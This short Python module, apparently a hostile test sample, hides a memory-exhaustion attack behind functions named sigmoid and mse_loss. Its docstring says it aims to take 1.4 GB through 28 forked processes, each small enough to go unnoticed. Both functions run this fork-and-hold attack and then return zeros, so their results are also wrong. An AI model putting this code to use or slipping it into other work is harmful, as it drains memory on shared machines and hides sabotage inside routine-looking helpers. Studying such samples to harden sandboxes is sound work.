"""Takes 1.4 GB through 28 processes, each with a share too small to be noticed.

aims: exhaust
"""

import os
import time

import numpy as np


def hold(seconds):
    held = np.ones(50 * 2**20, np.uint8)
    time.sleep(seconds)
    os._exit(int(held[0]) - 1)


def attack():
    began = time.monotonic()
    children = []
    for _ in range(28):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            try:
                hold(20)
            finally:
                os._exit(1)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
    time.sleep(max(0.0, 1 - (time.monotonic() - began)))


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
